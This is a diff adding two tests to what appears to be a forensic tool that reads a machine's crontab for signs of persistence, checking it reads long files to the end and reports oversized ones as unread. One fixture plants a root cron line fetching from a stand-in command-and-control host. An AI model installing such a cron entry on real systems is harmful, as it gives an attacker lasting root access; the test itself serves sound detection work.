@@ -188,3 +188,21 @@ def test_a_machine_without_a_cache_of_its_own_misses_nothing(tmp_path: Path):
     made = machine()
     del made["files"]["/proc/412/comm"]
     assert isinstance(answers_of(made, tmp_path)["dns_cache"], NotApplicable)
+
+
+def test_a_long_crontab_is_read_to_its_end(tmp_path: Path):
+    made = machine()
+    lines = "".join(f"{at} * * * * root run-{at}\n" for at in range(20_000))
+    made["files"]["/etc/crontab"] = lines + "0 * * * * root fetch http://c2.bad.example/\n"
+    answer = answers_of(made, tmp_path)["persistence"]
+    assert isinstance(answer, Answered)
+    assert answer.rows == 20_001
+    assert "c2.bad.example" in answer.observations[-1].names
+
+
+def test_a_crontab_over_the_cap_is_said(tmp_path: Path):
+    made = machine()
+    made["files"]["/etc/crontab"] = "# filler of a crontab\n" * 200_000
+    answer = answers_of(made, tmp_path)["persistence"]
+    assert isinstance(answer, Unanswered)
+    assert answer.reason is Unread.FAILED
